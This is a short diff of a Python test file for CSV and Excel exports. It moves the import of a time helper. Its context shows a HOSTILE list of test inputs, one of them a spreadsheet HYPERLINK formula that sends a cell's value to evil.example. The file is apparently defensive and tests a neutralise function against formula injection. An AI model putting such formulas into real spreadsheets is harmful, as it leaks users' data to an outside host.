@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from inventory.exports import Column, neutralise, rows_to_csv, rows_to_xlsx
 from monitoring.models import Outage
 from tests.inventory.factories import LinkFactory
-from tests.monitoring.test_services import at
+from tests.support.time import at
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
